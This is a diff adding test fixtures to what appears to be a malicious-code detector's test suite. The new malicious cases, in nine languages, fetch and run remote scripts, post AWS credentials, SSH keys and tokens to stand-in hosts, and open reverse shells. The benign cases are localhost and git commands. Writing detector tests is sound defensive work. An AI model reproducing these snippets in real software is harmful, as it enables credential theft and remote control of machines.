@@ -566,6 +566,115 @@ const MALICIOUS: Case[] = [
     rules: DL,
     atLeast: 'critical',
   },
+
+  // Second spellings, each a different member of the same API family.
+  go(
+    'go Sprintf command line run by bash -c',
+    `${GO_HEAD}func main() {\n\tsrc := "https://get.tools.example/i.sh"\n\tcmd := fmt.Sprintf("curl -fsSL %s | bash", src)\n\texec.Command("bash", "-c", cmd).Run()\n}\n`,
+    DL,
+  ),
+  go(
+    'go client.Post of ~/.aws/credentials',
+    `${GO_HEAD}func main() {\n\thome, _ := os.UserHomeDir()\n\tcreds, _ := os.ReadFile(filepath.Join(home, ".aws", "credentials"))\n\tc := &http.Client{}\n\tc.Post("https://collect.example/c", "text/plain", bytes.NewReader(creds))\n}\n`,
+    EXFIL,
+  ),
+  go(
+    'go shell streams set in one assignment',
+    `${GO_HEAD}func main() {\n\tc, err := net.Dial("tcp", "${HOST}:443")\n\tif err != nil {\n\t\treturn\n\t}\n\tsh := exec.Command("bash")\n\tsh.Stdin, sh.Stdout, sh.Stderr = c, c, c\n\tsh.Run()\n}\n`,
+    REV,
+  ),
+  rb(
+    'ruby Open3.capture2 curl pipe',
+    `require "open3"\n\nout, _ = Open3.capture2("curl -s http://${HOST}/x | sh")\nputs out\n`,
+    DL,
+  ),
+  rb(
+    'ruby HTTParty post of ~/.ssh/id_rsa',
+    `require "httparty"\n\nkey = File.read(File.join(Dir.home, ".ssh", "id_rsa"))\nHTTParty.post("https://collect.example/k", body: { key: key })\n`,
+    EXFIL,
+  ),
+  rb(
+    'ruby socket descriptor handed to sh by sprintf',
+    `require "socket"\n\nf = TCPSocket.open("${HOST}", 4444).to_i\nexec sprintf("/bin/sh -i <&%d >&%d 2>&%d", f, f, f)\n`,
+    REV,
+  ),
+  php('php passthru wget pipe', `<?php\npassthru("wget -qO- https://get.tools.example/i.sh | bash");\n`, DL),
+  php(
+    'php stream_socket_client with proc_open',
+    `<?php\n$s = stream_socket_client("tcp://${HOST}:4444");\nproc_open("sh", [0 => $s, 1 => $s, 2 => $s], $p);\n`,
+    REV,
+  ),
+  php(
+    'php $_ENV secret posted with http_build_query',
+    `<?php\n$data = http_build_query(["k" => $_ENV["AWS_SECRET_ACCESS_KEY"]]);\n$opts = ["http" => ["method" => "POST", "header" => "Content-Type: application/x-www-form-urlencoded", "content" => $data]];\nfile_get_contents("https://collect.example/k", false, stream_context_create($opts));\n`,
+    EXFIL,
+  ),
+  pl(
+    'perl open pipe from curl into sh',
+    `open(my $fh, "-|", "curl -s http://${HOST}/x | sh") or die;\nprint while <$fh>;\n`,
+    DL,
+  ),
+  pl(
+    'perl backticks of a decoded command',
+    `use MIME::Base64;\nmy $c = decode_base64("${B64}");\nmy $out = \`$c\`;\n`,
+    OBF,
+    'high',
+  ),
+  lua(
+    'lua loadstring of a download in one step',
+    `local http = require("socket.http")\nloadstring(http.request("http://${HOST}/p.lua"))()\n`,
+    DL,
+  ),
+  lua(
+    'lua socket.http POST table with an ltn12 source',
+    `local http = require("socket.http")\nlocal ltn12 = require("ltn12")\nlocal key = os.getenv("GITHUB_TOKEN")\nhttp.request({\n  url = "https://collect.example/t",\n  method = "POST",\n  source = ltn12.source.string(key),\n  headers = { ["content-length"] = #key },\n})\n`,
+    EXFIL,
+  ),
+  ps1(
+    'ps1 Invoke-WebRequest post of ~/.aws/credentials',
+    `$c = Get-Content -Raw "$HOME/.aws/credentials"\nInvoke-WebRequest -Uri "https://collect.example/c" -Method POST -Body $c\n`,
+    EXFIL,
+  ),
+  ps1(
+    'ps1 scriptblock created from a download',
+    `& ([scriptblock]::Create((Invoke-WebRequest -UseBasicParsing "https://cdn.example/m.ps1").Content))\n`,
+    DL,
+  ),
+  rs(
+    'rust ureq body run by sh -c',
+    `use std::process::Command;\n\nfn main() {\n    let body = ureq::get("https://cdn.example/i.sh").call().unwrap().into_string().unwrap();\n    Command::new("sh").arg("-c").arg(&body).status().unwrap();\n}\n`,
+    DL,
+  ),
+  rs(
+    'rust bash args array curl pipe',
+    `fn main() {\n    std::process::Command::new("bash")\n        .args(["-c", "curl -fsSL http://${HOST}/i.sh | bash"])\n        .status()\n        .unwrap();\n}\n`,
+    DL,
+  ),
+  java(
+    'java Runtime.exec of one command string',
+    `public class Sync {\n    public static void main(String[] args) throws Exception {\n        Runtime.getRuntime().exec("bash /tmp/x.sh");\n        Runtime.getRuntime().exec("curl -s -o /tmp/x.sh http://${HOST}/x.sh");\n    }\n}\n`,
+    DL,
+  ),
+  java(
+    'java URL.openStream copied to a file then run',
+    `import java.net.URL;\nimport java.nio.file.*;\n\npublic class Sync {\n    public static void main(String[] args) throws Exception {\n        var in = new URL("http://${HOST}/agent").openStream();\n        Files.copy(in, Paths.get("/tmp/agent"), StandardCopyOption.REPLACE_EXISTING);\n        new ProcessBuilder("sh", "/tmp/agent").start();\n    }\n}\n`,
+    DL,
+  ),
+  java(
+    'java ProcessBuilder bash -c /dev/tcp',
+    `public class Sync {\n    public static void main(String[] args) throws Exception {\n        new ProcessBuilder("bash", "-c", "bash -i >& /dev/tcp/${HOST}/4444 0>&1").start();\n    }\n}\n`,
+    REV,
+  ),
+  cs(
+    'csharp ProcessStartInfo initializer with Arguments',
+    `using System.Diagnostics;\n\nclass Sync {\n    static void Main() {\n        var psi = new ProcessStartInfo {\n            FileName = "/bin/bash",\n            Arguments = "-c \\"curl -s http://${HOST}/x | bash\\"",\n        };\n        Process.Start(psi);\n    }\n}\n`,
+    DL,
+  ),
+  cs(
+    'csharp Assembly.Load of downloaded bytes',
+    `using System.Net.Http;\nusing System.Reflection;\n\nclass Sync {\n    static void Main() {\n        var raw = new HttpClient().GetByteArrayAsync("https://cdn.example/plugin.dll").Result;\n        Assembly.Load(raw).EntryPoint.Invoke(null, null);\n    }\n}\n`,
+    DL,
+  ),
 ];
 
 const BENIGN: Case[] = [
@@ -614,6 +723,16 @@ const BENIGN: Case[] = [
   }),
   good('benign workflow publishes with its token', {
     '.github/workflows/release.yml': `on: push\njobs:\n  publish:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: npm ci && npm test\n      - run: npm publish\n        env:\n          NODE_AUTH_TOKEN: \${{ secrets.NPM_TOKEN }}\n`,
+  }),
+  good('benign go redis ping on localhost and git describe', {
+    'tools/main.go': `${GO_HEAD}func main() {\n\tconn, err := net.Dial("tcp", "127.0.0.1:6379")\n\tif err == nil {\n\t\tconn.Write([]byte("PING\\r\\n"))\n\t\tconn.Close()\n\t}\n\tout, _ := exec.Command("git", "describe", "--tags").Output()\n\tos.Stdout.Write(out)\n}\n`,
+  }),
+  good('benign csharp health check on localhost and git status', {
+    'src/Health.cs': `using System.Diagnostics;\nusing System.Net.Sockets;\n\nclass Health {\n    static void Main() {\n        using var c = new TcpClient("localhost", 5432);\n        var psi = new ProcessStartInfo {\n            FileName = "git",\n            Arguments = "status --short",\n        };\n        Process.Start(psi)?.WaitForExit();\n    }\n}\n`,
+  }),
+  good('benign ruby and perl shell out to bundle and make', {
+    'scripts/build.rb': `system("bundle", "exec", "rake", "build")\nputs \`git rev-parse HEAD\`\n`,
+    'scripts/build.pl': `my $rev = qx(git rev-parse HEAD);\nopen(my $fh, "-|", "git", "log", "--oneline") or die;\nprint while <$fh>;\nsystem("make", "-j4");\n`,
   }),
 ];
 
